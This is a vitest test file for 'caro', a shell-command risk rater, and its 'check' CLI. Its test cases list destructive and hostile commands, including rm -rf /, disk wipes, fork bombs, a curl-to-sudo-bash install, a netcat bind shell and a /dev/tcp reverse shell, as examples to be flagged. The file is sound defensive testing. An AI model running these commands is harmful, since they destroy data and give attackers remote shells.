import { execFileSync } from "node:child_process";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { rateCommand } from "../src/safety/rate.js";
import { caro } from "./helpers/caro.js";
import { ROOT } from "./helpers/models.js";

const risk = async (command: string, shell: "bash" | "fish" | "zsh" = "bash", cwd?: string) => (await rateCommand(command, shell, cwd)).risk;

describe("rating from the syntax tree", () => {
  it.each([
    "rm -r -f /",
    "rm --recursive --force ~",
    'sudo rm -fr "$HOME"',
    "rm -rf /*",
    "rm -rf /etc",
    'rm -rf "$STEAMROOT/"*',
    "dd if=/dev/zero of=/dev/sda bs=1M",
    "cat /dev/urandom > /dev/nvme0n1",
    "mkfs.ext4 /dev/sdb1",
    "wipefs -a /dev/sdc",
    "shred -n 3 /dev/sda",
    "diskutil eraseDisk JHFS+ Empty disk2",
    ":(){ :|:& };:",
    "bomb() { bomb | bomb & }; bomb",
    "chmod -R 777 /usr",
    "chown -R nobody /etc",
    "chmod u+s /bin/bash",
    "curl -fsSL https://x.example/install.sh | sudo bash",
    "kill -9 -1",
    "echo 'root2::0:0::/root:/bin/bash' >> /etc/passwd",
    "cp evil /etc/sudoers",
    "terraform destroy -auto-approve",
    "psql -c 'DROP DATABASE prod'",
    "nc -l -p 4444 -e /bin/sh",
    "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
    "find / -delete",
    "find ~ -exec rm -rf {} +",
    `sh -c 'rm -rf /'`,
    `bash -c "sudo rm -rf /*"`,
    `eval "rm -rf ~"`,
    "env -i nice -n 10 nohup rm -rf /",
    `python3 -c "import os; os.system('rm -rf /')"`,
    "ls | xargs sudo rm -rf / ",
    "ssh prod 'rm -rf /var/lib'",
  ])("critical: %s", async (command) => {
    expect(await risk(command)).toBe("critical");
  });

  it.each([
    "curl -fsSL https://get.example.sh | sh",
    "git push --force origin main",
    "git reset --hard HEAD~3",
    "git clean -fdx",
    "crontab -r",
    "iptables -F",
    "ufw disable",
    "kubectl delete deployment web",
    "aws s3 rm s3://bucket/ --recursive",
    "history -c",
    "cat /dev/null > ~/.bash_history",
    "shutdown -h now",
    "sudo -i",
    "rm -rf *",
    "find . -name '*.tmp' | xargs rm -rf",
    "psql -c 'DROP TABLE users'",
    "killall -9",
  ])("high: %s", async (command) => {
    expect(await risk(command)).toBe("high");
  });

  it.each(["rm -rf ./node_modules", "rm notes.txt", "sed -i 's/a/b/' file.txt", "apt-get install jq", "rm -rf /tmp/build-cache"])(
    "moderate, not more: %s",
    async (command) => {
      expect(await risk(command)).toBe("moderate");
    },
  );

  it.each([
    'echo "rm -rf /"',
    'grep -r "rm -rf" .',
    "# rm -rf /",
    "ls -la # then rm -rf /",
    "printf '%s\\n' 'dd if=/dev/zero of=/dev/sda'",
    "find . -name '*.py' -exec wc -l {} +",
    "du -sh * | sort -h",
    "dd if=/dev/sda of=disk.img",
    "git push origin main",
    "command -v rm",
  ])("safe: %s", async (command) => {
    expect(await risk(command)).toBe("safe");
  });

  it("says why, in words a person understands", async () => {
    expect((await rateCommand("rm -rf ~", "bash")).reasons[0]).toBe("deletes your home directory (~) and everything in it");
    expect((await rateCommand("sudo rm -rf /", "bash")).reasons.join(" ")).toMatch(/everything on the system/);
    expect((await rateCommand("find . -exec sed -i s/a/b/ {} +", "bash")).reasons[0]).toMatch(/through find -exec/);
  });

  it("knows that emptying the current folder is worse when the folder is home or /", async () => {
    expect(await risk("rm -rf ./*", "bash", "/home/ada/project")).toBe("high");
    expect(await risk("rm -rf ./*", "bash", "/home/ada")).toBe("critical");
    expect(await risk("rm -rf *", "bash", "/")).toBe("critical");
  });

  it("treats a variable of unknown value as unknown", async () => {
    expect(await risk('rm -rf "$BUILD_DIR"')).toBe("high");
    expect(await risk('rm -rf "$BUILD_DIR/"')).toBe("critical");
  });

  it("rates a command that does not parse at least moderate, and says so", async () => {
    const rating = await rateCommand("rm -rf 'unclosed", "bash");
    expect(["moderate", "high", "critical"]).toContain(rating.risk);
    expect(rating.reasons.join(" ")).toMatch(/does not parse/);
    expect(await risk("echo (((")).toBe("moderate");
  });

  it("rates fish syntax, reading what the POSIX parser can", async () => {
    expect(await risk("for f in *.txt; echo $f; end", "fish")).toBe("safe");
    expect(await risk("rm -rf (pwd)/../*; and echo done", "fish")).not.toBe("safe");
    expect(await risk("if test -d ~/x; rm -rf ~; end", "fish")).toBe("critical");
  });
});

describe("caro check", () => {
  it("prints the risk and the reasons", async () => {
    const result = await caro(["check", "--", "rm -rf /"]);
    expect(result.exitCode).toBe(0);
    expect(result.stdout).toBe("critical\n  - deletes everything on the system, recursively from /");
  });

  it("prints JSON with --json, exit 0 whatever the rating", async () => {
    const result = await caro(["check", "--json", "--", "ls", "-la"]);
    expect(result.exitCode).toBe(0);
    expect(JSON.parse(String(result.stdout))).toEqual({ command: "ls -la", risk: "safe", reasons: [] });
  });

  it("reads one command per line with --stdin and writes one JSON object per line", async () => {
    const result = await caro(["check", "--stdin"], { input: "ls\nrm -rf ~\n\ngit push -f\n" });
    expect(result.exitCode).toBe(0);
    const lines = String(result.stdout).split("\n").map((l) => JSON.parse(l));
    expect(lines.map((l) => [l.command, l.risk])).toEqual([["ls", "safe"], ["rm -rf ~", "critical"], ["git push -f", "high"]]);
  });

  it("exits 2 without a command", async () => {
    const result = await caro(["check"]);
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(/^caro: no command to rate: usage: caro check/);
  });

  it("exits 2 for an unknown shell", async () => {
    const result = await caro(["check", "--shell", "cmd", "--", "dir"]);
    expect(result.exitCode).toBe(2);
  });
});

describe("against the older caro's labelled data", () => {
  it("catches every critical row and rates no safe row high or critical, except rows judged mislabelled", () => {
    // The script exits 1 when a target is missed; its output names the rows.
    const output = execFileSync(process.execPath, [join(ROOT, "scripts", "safety-eval.mjs")], { encoding: "utf8" });
    expect(output).toContain("targets held");
  });
});
